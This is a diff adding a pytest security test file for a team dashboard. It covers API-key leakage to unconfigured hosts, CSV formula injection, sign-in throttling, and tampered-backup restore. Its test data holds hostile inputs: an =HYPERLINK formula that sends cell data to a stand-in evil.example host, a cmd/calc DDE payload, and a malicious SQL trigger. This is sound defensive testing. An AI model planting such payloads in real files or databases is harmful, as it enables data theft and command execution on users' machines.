@@ -1,0 +1,357 @@
+"""Attacks on a team deployment (issue 12), each run for real: the API key sent to a listener the
+operator did not configure, formula cells in every CSV the project writes, password guessing from
+parallel sessions, a reshaped store handed to restore, and job logs of two stores in one folder.
+(Links in names are checked in a real browser: tests/test_browser_security.py.)"""
+
+from __future__ import annotations
+
+import csv
+import io
+import json
+import os
+import re
+import sqlite3
+import threading
+import time
+from pathlib import Path
+
+import pandas as pd
+import pytest
+from streamlit.testing.v1 import AppTest
+
+from core import cli, compare, config, jobs, safecsv, signin
+from core.llm import LLMSettings
+from core.loopback import LoopbackServer
+from core.records import Dataset, ImportBatch, Judge, Label, Sample
+from core.store import RestoreError, Store, check_export, export_store, restore_store
+
+ROOT = Path(__file__).resolve().parents[1]
+APP = str(ROOT / "dashboard" / "app.py")
+KEY = "sk-OPERATOR-7c1f0b93e2d4"
+
+
+# ---------------------------------------------------------------- 1. the key goes only where configured
+
+
+@pytest.fixture
+def key_env(monkeypatch):
+    for name in ("PREFDISSECT_LLM_BASE_URL", "OPENAI_BASE_URL", config.LLM_ALLOWED_ENV, config.TYPED_KEY_ENV,
+                 "OPENAI_API_KEY"):
+        monkeypatch.delenv(name, raising=False)
+    monkeypatch.setenv("PREFDISSECT_LLM_API_KEY", KEY)
+    return monkeypatch
+
+
+@pytest.mark.parametrize("url, same", [
+    ("https://api.openai.com/v1/", True), ("HTTPS://API.OPENAI.COM:443/v1", True), (None, True), ("", True),
+    ("https://api.openai.com.evil.example/v1", False), ("http://api.openai.com/v1", False),
+    ("https://api.openai.com/v1@evil.example", False), ("http://127.0.0.1:8000/v1", False),
+])
+def test_the_key_goes_to_openai_only_when_nothing_else_is_configured(key_env, url, same):
+    assert config.key_allowed_for(url) is same
+    assert (LLMSettings.from_env(base_url=url).api_key == KEY) is same
+
+
+def test_the_configured_base_url_and_the_allow_list_get_the_key(key_env):
+    key_env.setenv("PREFDISSECT_LLM_BASE_URL", "http://gateway.internal:4000/v1")
+    key_env.setenv(config.LLM_ALLOWED_ENV, "https://a.example/v1, http://127.0.0.1:9/v1/")
+    assert LLMSettings.from_env().api_key == KEY
+    assert LLMSettings.from_env(base_url="http://gateway.internal:4000/v1/").api_key == KEY
+    assert LLMSettings.from_env(base_url="http://127.0.0.1:9/v1").api_key == KEY
+    assert LLMSettings.from_env(base_url="https://api.openai.com/v1").api_key is None  # not configured any more
+    assert LLMSettings.from_env(base_url="http://127.0.0.1:10/v1").api_key is None
+
+
+def test_a_typed_key_is_used_only_off_the_list(key_env):
+    key_env.setenv(config.TYPED_KEY_ENV, "sk-typed-for-this-job")
+    assert LLMSettings.from_env(base_url="http://127.0.0.1:9/v1").api_key == "sk-typed-for-this-job"
+    assert LLMSettings.from_env().api_key == KEY
+
+
+def _demo_dataset(store: Store, n: int = 4) -> str:
+    samples = [Sample("keytest", f"question {i}?", f"answer A {i}", f"answer B {i}") for i in range(n)]
+    store.write_batch(ImportBatch(Dataset("keytest"), samples))
+    return "keytest"
+
+
+def test_a_job_pointed_at_a_listener_sends_it_no_key(tmp_path, key_env):
+    """The attack from the probe: a job's base URL set to a listener on 127.0.0.1. The worker runs
+    the job through the real client; the listener records every Authorization header it gets."""
+    store_path = tmp_path / "store.db"
+    with Store(store_path) as s:
+        dataset = _demo_dataset(s)
+        with LoopbackServer(record=1000) as listener:
+            seen: list[str] = []
+            listener.set_script(lambda body: "A")
+            orig = listener._dispatch
+
+            async def spy(method, target, headers, body):
+                seen.append(headers.get("authorization", ""))
+                return await orig(method, target, headers, body)
+
+            listener._dispatch = spy
+            job = jobs.submit(s, "judge", {"dataset": dataset, "judge": "exfil", "both_orders": False,
+                                           "llm": {"model": "loopback-1", "base_url": listener.url}})
+            jobs.run(s, job.id)  # the worker's own code path, in this process
+        assert seen, "the job sent nothing: the test would prove nothing"
+        assert all(KEY not in h for h in seen), "the operator's key reached an unconfigured server"
+        assert s.scalar("SELECT COUNT(*) FROM labels WHERE judge = 'exfil'") == 4  # the job did run
+
+
+def test_the_configured_server_still_gets_the_key(tmp_path, key_env):
+    with Store(tmp_path / "store.db") as s, LoopbackServer(api_key=KEY) as server:
+        key_env.setenv("PREFDISSECT_LLM_BASE_URL", server.url)
+        server.set_script(lambda body: "A")
+        job = jobs.submit(s, "judge", {"dataset": _demo_dataset(s), "judge": "ok", "both_orders": False,
+                                       "llm": {"model": "loopback-1", "base_url": server.url}})
+        jobs.run(s, job.id)
+        assert s.scalar("SELECT COUNT(*) FROM labels WHERE judge = 'ok'") == 4  # a 401 would store none
+
+
+# ---------------------------------------------------------------- 2. formula cells in every CSV
+
+FORMULAS = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")", "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
+            "\tTAB=1", "\r=1"]
+
+
+def _cells(text: str) -> list[str]:
+    return [c for row in csv.reader(io.StringIO(text)) for c in row]
+
+
+def _number(cell: str) -> bool:
+    try:
+        float(cell)
+    except ValueError:
+        return False
+    return True
+
+
+def _assert_inert(text: str) -> None:
+    """No cell a spreadsheet would run: only numbers may start with "-" or "+"."""
+    for cell in _cells(text):
+        assert not cell.startswith(safecsv.FORMULA_LEADS) or _number(cell), repr(cell)
+
+
+@pytest.mark.parametrize("value", FORMULAS)
+def test_safe_cell_neutralises_each_leading_character(value):
+    out = safecsv.safe_cell(value)
+    assert out == "'" + value
+    assert safecsv.safe_cell("plain judge") == "plain judge" and safecsv.safe_cell(-0.25) == -0.25
+
+
+def _hostile_store(path: Path) -> tuple[Store, list[str]]:
+    from core import demo, fit
+
+    s = Store(path)
+    demo.build_demo(s, fit=False, n_per_group=8)
+    src = s.judge_names(demo.DEMO_DATASET)[0]
+    rows = s.labels(demo.DEMO_DATASET, [src])
+    names = [f"{f} judge{i}" if not f.startswith(("\t", "\r")) else f for i, f in enumerate(FORMULAS)]
+    for name in names:
+        s.write_labels([Judge(name, "llm")], [Label(r["sample_id"], name, r["choice"]) for r in rows])
+    fit.dissect(s, demo.DEMO_DATASET, demo.FEATURE_SOURCE, scopes=["all"], judges=names + [src], folds=0)
+    return s, names
+
+
+@pytest.fixture(scope="module")
+def hostile_store(tmp_path_factory):
+    path = tmp_path_factory.mktemp("hostile") / "store.db"
+    s, names = _hostile_store(path)
+    s.close()
+    return path, names
+
+
+def test_every_csv_the_cli_writes_is_inert(hostile_store, tmp_path, capsys):
+    from core import demo
+
+    path, names = hostile_store
+    out = tmp_path / "profiles.csv"
+    assert cli.main(["--store", str(path), "export-profiles", "--dataset", demo.DEMO_DATASET, "--scope", "all",
+                     "-o", str(out)]) == 0
+    text = out.read_bytes().decode()
+    assert {"'" + n for n in names} <= set(_cells(text))  # every name is there, as quoted text
+    _assert_inert(text)
+    sim = tmp_path / "similarity.csv"
+    assert cli.main(["--store", str(path), "similarity", "--dataset", demo.DEMO_DATASET, "--scope", "all",
+                     "--csv", str(sim)]) == 0
+    _assert_inert(sim.read_bytes().decode())
+    assert {"'" + n for n in names} <= set(_cells(sim.read_bytes().decode()))
+
+
+def test_every_csv_download_of_the_dashboard_is_inert(hostile_store):
+    """The download buttons' content, built by the same functions the pages call."""
+    from core import demo
+    from dashboard import data
+
+    path, names = hostile_store
+    with Store(path) as s:
+        rows = s.profiles(dataset=demo.DEMO_DATASET)
+    _assert_inert(compare.export_profiles(rows, "csv"))
+    matrix = pd.DataFrame([[1.0, 0.5], [0.5, 1.0]], index=names[:2], columns=names[:2])
+    _assert_inert(data.csv_download(matrix))
+    # st.dataframe's own CSV export cannot be neutralised, so it is switched off
+    toml = (ROOT / ".streamlit" / "config.toml").read_text()
+    assert "disableDataExport = true" in toml
+
+
+def test_no_csv_is_written_around_safecsv():
+    """Every CSV writer goes through core.safecsv (a new one would bypass the neutralising)."""
+    offenders = []
+    for folder in ("core", "dashboard", "pages"):
+        for p in (ROOT / folder).glob("*.py"):
+            if p.name == "safecsv.py":
+                continue
+            text = p.read_text()
+            if re.search(r"(?<!safecsv)\.to_csv\(|csv\.writer\(|csv\.DictWriter\(", text):
+                offenders.append(p.name)
+    assert not offenders, offenders
+
+
+# ---------------------------------------------------------------- 3. guessing the password
+
+
+def test_throttle_delays_grow_and_lock_out_one_address():
+    now = [1000.0]
+    t = signin.Throttle(per_client=3, overall=100, window_s=60, clock=lambda: now[0])
+    delays = [t.failure("1.2.3.4") for _ in range(3)]
+    assert delays == sorted(delays) and delays[0] < delays[-1]
+    assert t.locked_for("1.2.3.4") == pytest.approx(60)
+    assert t.locked_for("5.6.7.8") == 0  # another address is not locked out by this one
+    now[0] += 61
+    assert t.locked_for("1.2.3.4") == 0  # the window passed
+
+
+def test_throttle_counts_all_addresses_together():
+    now = [0.0]
+    t = signin.Throttle(per_client=100, overall=5, window_s=30, clock=lambda: now[0])
+    for i in range(5):
+        t.failure(f"10.0.0.{i}")
+    assert t.locked_for("10.0.0.99") > 0  # a distributed guess gets no more tries than one client
+
+
+@pytest.fixture
+def team(tmp_path, monkeypatch):
+    monkeypatch.setenv("PREFDISSECT_STORE", str(tmp_path / "store.db"))
+    monkeypatch.setenv("PREFDISSECT_SEED_DEMO", "0")
+    monkeypatch.setenv("PREFDISSECT_PASSWORD", "viewer-pass-123")
+    monkeypatch.setenv("PREFDISSECT_EDITOR_PASSWORD", "editor-pass-456")
+    monkeypatch.setenv("PREFDISSECT_SIGNIN_MAX_FAILURES", "3")
+    monkeypatch.setenv("PREFDISSECT_SIGNIN_MAX_FAILURES_TOTAL", "50")
+    monkeypatch.setenv("PREFDISSECT_SIGNIN_LOCKOUT_S", "120")
+    from dashboard import auth
+
+    auth._throttle.clear()  # a fresh counter for this test's settings
+    yield
+    auth._throttle.clear()
+
+
+def _attempt(password: str) -> list[str]:
+    at = AppTest.from_file(APP, default_timeout=60)
+    at.run()
+    at.text_input[0].input("mallory")
+    at.text_input[1].input(password)
+    at.button[0].click()
+    at.run()
+    return [e.value for e in at.error] + [t.value for t in at.title]
+
+
+def test_parallel_sessions_share_the_count_and_the_right_password_is_refused_during_lockout(team):
+    results: list[list[str]] = []
+    threads = [threading.Thread(target=lambda: results.append(_attempt(f"guess-{i}"))) for i in range(3)]
+    for th in threads:
+        th.start()
+    for th in threads:
+        th.join(120)
+    assert len(results) == 3 and all("Wrong password." in r for r in results)
+    # a fourth session, with the right password, straight after: refused, with the lockout named
+    shown = _attempt("viewer-pass-123")
+    assert any("Too many failed sign-ins" in s for s in shown) and "Sign in" in shown
+
+
+def test_a_right_password_before_the_lockout_signs_in_and_resets_the_address(team):
+    assert "Wrong password." in _attempt("nope")
+    shown = _attempt("viewer-pass-123")
+    assert "Sign in" not in shown
+
+
+def test_the_sign_in_token_is_signed_bounded_and_holds_no_password(monkeypatch):
+    monkeypatch.setenv(signin.SECRET_ENV, "a-long-operator-secret")
+    tok = signin.make_token("ann", "editor", password="pw-view", editor_password="pw-edit", now=1000, ttl=60)
+    assert "pw-view" not in tok and "pw-edit" not in tok
+    assert signin.read_token(tok, password="pw-view", editor_password="pw-edit", now=1010) == ("ann", "editor")
+    assert signin.read_token(tok, password="pw-view", editor_password="pw-edit", now=1061) is None  # expired
+    assert signin.read_token(tok, password="changed", editor_password="pw-edit", now=1010) is None  # new password
+    payload, sig = tok.split(".")
+    forged = signin.make_token("ann", "viewer", password="pw-view", editor_password="pw-edit", now=1000, ttl=60)
+    assert signin.read_token(forged.split(".")[0] + "." + sig, password="pw-view", editor_password="pw-edit",
+                             now=1010) is None  # a payload with another's signature
+    monkeypatch.setenv(signin.SECRET_ENV, "another-secret")
+    assert signin.read_token(tok, password="pw-view", editor_password="pw-edit", now=1010) is None
+    monkeypatch.setenv(signin.SECRET_ENV, "a-long-operator-secret")
+    signin.revoke(tok)
+    assert signin.read_token(tok, password="pw-view", editor_password="pw-edit", now=1010) is None  # signed out
+
+
+# ---------------------------------------------------------------- 4. restore checks the shape
+
+
+def _export(tmp_path: Path) -> tuple[Path, Path]:
+    live = tmp_path / "store.db"
+    with Store(live) as s:
+        _demo_dataset(s)
+    backup = export_store(live, tmp_path / "backup.db")
+    return live, backup
+
+
+def _sha(path: Path) -> str:
+    from tests.conftest import store_sha256
+
+    return store_sha256(path)
+
+
+@pytest.mark.parametrize("attack, named", [
+    ("ALTER TABLE labels ADD COLUMN evil TEXT", "table labels has other columns"),
+    ("CREATE TRIGGER steal AFTER INSERT ON samples BEGIN DELETE FROM labels; END", "trigger steal is not ours"),
+    ("CREATE VIEW peek AS SELECT * FROM samples", "view peek is not ours"),
+    ("DROP INDEX labels_judge", "index labels_judge is missing"),
+    ("DROP TRIGGER labels_delete_revision", "trigger labels_delete_revision is missing"),
+])
+def test_restore_refuses_a_reshaped_store_and_names_the_difference(tmp_path, attack, named):
+    live, backup = _export(tmp_path)
+    conn = sqlite3.connect(backup)
+    conn.execute(attack)
+    conn.commit()
+    conn.close()
+    before = _sha(live)
+    with pytest.raises(RestoreError, match=named):
+        restore_store(backup, live)
+    assert _sha(live) == before
+    assert not list(tmp_path.glob("store.before-restore-*"))
+
+
+def test_restore_refuses_a_table_rebuilt_with_other_columns(tmp_path):
+    live, backup = _export(tmp_path)
+    conn = sqlite3.connect(backup)
+    conn.executescript("DROP TABLE labels; CREATE TABLE labels (sample_id TEXT, judge TEXT, payload BLOB);")
+    conn.close()
+    with pytest.raises(RestoreError, match="table labels has other columns"):
+        check_export(backup)
+
+
+def test_an_untouched_export_restores(tmp_path):
+    live, backup = _export(tmp_path)
+    counts, safety = restore_store(backup, live)
+    assert counts["samples"] == 4 and safety is not None and safety.exists()
+
+
+# ---------------------------------------------------------------- 6. job logs beside their own store
+
+
+def test_two_stores_in_one_folder_keep_their_own_logs(tmp_path):
+    a, b = tmp_path / "team-a.db", tmp_path / "team-b.db"
+    assert jobs.log_path(a, 1) != jobs.log_path(b, 1)
+    assert jobs.log_path(a, 1).parent.parent == tmp_path
+    jobs.log_path(a, 1).parent.mkdir()
+    jobs.log_path(a, 1).write_text("store a's line\n")
+    assert jobs.log_tail(b, 1) == ""
+    assert "store a's line" in jobs.log_tail(a, 1)
